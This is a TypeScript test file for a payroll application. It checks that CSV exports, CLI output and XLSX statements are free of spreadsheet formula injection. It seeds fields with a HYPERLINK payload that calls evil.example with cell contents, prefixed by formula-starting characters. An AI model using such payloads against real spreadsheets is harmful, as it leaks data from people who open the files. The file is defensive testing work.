import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { beforeAll, describe, expect, it } from 'vitest';
import { toJSONSchema } from 'zod';
import type { Route } from '../../src/http/route.js';
import { withoutFormula } from '../../src/ledger/csv-text.js';
import { attain, workFolder } from '../cli/attain.js';
import { MAPPING } from '../runs/payouts/payroll.js';
import { type HostileService, hostileService } from './hostile-service.js';
import { EVERY_ROUTE, pathsOf } from './paths-to-try.js';

/** What a spreadsheet takes for the beginning of a formula, or leaves out before one. */
const BEGINNINGS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n='];

/** Ids hold no characters of control. */
const IN_IDS = BEGINNINGS.filter((each) => !/\s/.test(each));

const written = new Map<string, string>();

/** Each field begins otherwise, in turn. */
function write(field: string): string {
  const known = written.get(field);
  if (known !== undefined) return known;
  const beginnings = /reason|message|note|reply/.test(field) ? BEGINNINGS : IN_IDS;
  const text = `${beginnings[written.size % beginnings.length]}HYPERLINK("http://evil.example/?"&A1,"${field}")`;
  written.set(field, text);
  return text;
}

let hostile: HostileService;
let plan: { readonly hash: string; readonly text: string };
/** The jobs that paths with an id are asked of. */
let jobs: { readonly imports: string; readonly comparisons: string; readonly runs: string };

beforeAll(async () => {
  hostile = await hostileService(write);
  const read = async (path: string) => JSON.parse(await (await hostile.askAs('administrator', path)).text());
  const { versions } = await read('/api/v1/plans/ae');
  const hash: string = versions[0].hash;
  plan = { hash, text: (await read(`/api/v1/plans/ae/versions/${hash}`)).source };
  const records = {
    splits: [{ deal: write('missing.deal'), payee: 'ada', role: 'owner', share: write('share') }],
  };
  jobs = {
    imports: await ended('imports', records),
    comparisons: await ended('comparisons', { plan: 'ae', file: raised() }),
    runs: await ended('runs', { through: '2026-03' }),
  };
});

/** Asks for a job, awaits its end and tells its id. */
async function ended(path: string, body: unknown): Promise<string> {
  const sent = await hostile.askAs('administrator', `/api/v1/${path}`, post(body));
  const id = sent.headers.get('location')?.split('/').at(-1) ?? '';
  if (sent.status === 202)
    await (await hostile.askAs('administrator', `/api/v1/${path}/${id}/events`)).text();
  return id;
}

const raised = () => ({ name: 'ae.yaml', text: plan.text.replace('10%', '11%') });

const post = (body: unknown): RequestInit => ({
  ...{ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) },
});

const NUMBER = /^-?\d+(\.\d+)?%?$/;

/** The cells that a spreadsheet would run. */
function formulasIn(csv: string, delimiter = ','): readonly string[] {
  const rows: string[][] = parse(csv, { delimiter, relax_column_count: true });
  return rows.flat().filter((cell) => /^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell) && !NUMBER.test(cell));
}

/** Columns that a mapping of the customer names. */
const NAMED_BY_OTHERS = new Set(['POST /api/v1/payout-batches/:batch/export']);

/** The names of columns that are written otherwise than all others: in camelCase. */
function badNamesIn(csv: string): readonly string[] {
  const [header = []]: string[][] = parse(csv, { relax_column_count: true, to: 1 });
  return header.filter((each) => !/^[a-z][A-Za-z0-9]*$/.test(each));
}

/** Whether what was written with harm in mind is in a text at all. */
const isTold = (csv: string) => csv.includes('evil.example');

const givesCsv = ({ query, responses }: Route) => {
  const format = query?.shape['format'];
  const takesCsv = format?.safeParse('csv').success === true;
  return takesCsv || filesOf(query).length > 0 || Object.hasOwn(contentOf(responses), 'text/csv');
};

/** The tables that a page gives as files, where it has several. */
function filesOf(query: Route['query']): readonly string[] {
  const file = query?.shape['file'];
  if (file === undefined) return [];
  const { enum: names, const: name } = toJSONSchema(file, { io: 'input' });
  return (names ?? (name === undefined ? [] : [name])).map(String);
}

function contentOf(responses: Route['responses']): object {
  const answered = responses?.[200];
  return answered !== undefined && 'content' in answered ? (answered.content ?? {}) : {};
}

const CSV_ROUTES = EVERY_ROUTE.filter(givesCsv);

/** What is sent to those that are not asked with GET. */
const BODIES: Readonly<Record<string, () => unknown>> = {
  'POST /api/v1/accounting/journal': () => ({}),
  'POST /api/v1/accounting/cost-of-sales': () => ({}),
  'POST /api/v1/plans/:plan/comparison': () => ({ file: raised() }),
  'POST /api/v1/payout-batches/:batch/export': () => ({ mapping: MAPPING }),
};

async function* answersOf(route: Route): AsyncGenerator<string> {
  const { method, path, query } = route;
  const names = Object.keys(query?.shape ?? {});
  const asked = new URLSearchParams();
  if (names.includes('format')) asked.set('format', 'csv');
  if (names.includes('with')) asked.set('with', plan.hash);
  const name = `${method} ${path}`;
  const init =
    method === 'GET' ? {} : post(BODIES[name]?.() ?? expect.fail(`what is to be sent to ${name}?`));
  const files = filesOf(query);
  const plain = names.includes('format') || files.length === 0 ? [asked] : [];
  const queries = [...plain, ...files.map((file) => new URLSearchParams({ file }))];
  const id = path.includes('/comparisons/') ? jobs.comparisons : jobs.imports;
  const paths = pathsOf(path, { ...hostile.ids, id: [id], task: [jobs.comparisons], run: [jobs.runs] });
  for (const each of paths.flatMap((at) =>
    queries.map((query) => (query.size === 0 ? at : `${at}?${query}`)),
  )) {
    const by = path.endsWith('/export') ? 'finance' : 'administrator';
    const response = await hostile.askAs(by, each, init);
    const text = await response.text();
    if (!response.ok) expect([404, 409, 422], `${each}: ${text}`).toContain(response.status);
    else if (response.headers.get('content-type')?.startsWith('text/csv')) yield text;
  }
}

describe('no CSV holds a formula', () => {
  const told: string[] = [];

  it.each(CSV_ROUTES.map((route) => [`${route.method} ${route.path}`, route] as const))(
    '%s',
    async (name, route) => {
      let answers = 0;
      for await (const csv of answersOf(route)) {
        answers += 1;
        expect(formulasIn(csv)).toEqual([]);
        if (!NAMED_BY_OTHERS.has(name)) expect(badNamesIn(csv)).toEqual([]);
        if (isTold(csv)) told.push(name);
      }
      expect(answers, 'nothing was answered').toBeGreaterThan(0);
    },
  );

  it('though most hold what was written as one', () => {
    expect(new Set(told).size).toBeGreaterThan(CSV_ROUTES.length / 2);
  });

  it('and a number below zero stays one', async () => {
    const path = '/api/v1/payees/ada/statements/2026-03?format=csv';
    const rows: string[][] = parse(await (await hostile.askAs('payee', path)).text());
    expect(rows.flat()).toContain('-7.00');
    expect(rows.flat().filter((cell) => /^'-?\d/.test(cell))).toEqual([]);
  });

  it('whatever it begins with', () => {
    for (const beginning of BEGINNINGS) {
      expect(withoutFormula(`${beginning}1+1`)).toBe(`'${beginning}1+1`);
      expect(withoutFormula(beginning)).toBe(`'${beginning}`);
    }
    const plain = ['-5', '-5.00', '0.1', '-12.5%', '2026-01-01', 'D-1', 'a=1', "'=1", ''];
    expect(plain.map(withoutFormula)).toEqual(plain);
    expect(['-5+1', '-', '--5', '-5 ', '-1e5', '+5', '-5\n=1', '-.5'].map(withoutFormula)).toEqual([
      ...["'-5+1", "'-", "'--5", "'-5 ", "'-1e5", "'+5", "'-5\n=1", "'-.5"],
    ]);
  });
});

/** Commands that print CSV, or write it. */
const COMMANDS: readonly (readonly string[])[] = [
  ...['accruals', 'contract-costs', 'journal', 'cost-of-sales'].map((each) => ['accounting', each, '--csv']),
  ['accounting', 'contract-costs', '--waterfall', '--csv'],
  ...['bases', 'bridge', 'exceptions', 'trace'].map((each) => ['reconcile', each, '--csv']),
  ['earnings', 'ada', '--csv'],
  ['held', 'ada', '--csv'],
  ['compare', '--plan', 'ae', '--with-hash', 'HASH', '--csv'],
  ['statement', 'ada', '2026-03', '--format', 'csv'],
];

it.each(COMMANDS.map((args) => [args.join(' '), args] as const))(
  'attain %s prints no formula',
  async (_, args) => {
    const filled = args.map((each) => (each === 'HASH' ? plan.hash.slice(0, 12) : each));
    const { exitCode, out, error } = await attain(workFolder(), '--database', hostile.db.address, ...filled);
    expect(exitCode, error).toBe(0);
    expect(out.split('\n').length).toBeGreaterThan(1);
    expect(formulasIn(out)).toEqual([]);
  },
);

it('attain audit --export writes no formula', async () => {
  const folder = workFolder();
  const { exitCode } = await attain(
    folder,
    '--database',
    hostile.db.address,
    'audit',
    '--export',
    'trail.csv',
  );
  expect(exitCode).toBe(0);
  const csv = readFileSync(join(folder, 'trail.csv'), 'utf8');
  expect(isTold(csv)).toBe(true);
  expect(formulasIn(csv)).toEqual([]);
});

it('texts in a workbook are texts', async () => {
  const path = '/api/v1/payees/ada/statements/2026-03?format=xlsx';
  const response = await hostile.askAs('payee', path);
  expect(response.status).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  for (const [sheet, field] of [
    ['Summary', 'payee.name'],
    ['Summary', 'company.name'],
    ['Adjustments', 'adjustment.reason'],
  ] as const) {
    const cells = (await readSheet(bytes, sheet)).flat();
    // What runs as a formula has no text of its own.
    expect(
      cells.filter((cell) => String(cell).includes(`"${field}"`)),
      field,
    ).toHaveLength(1);
  }
});
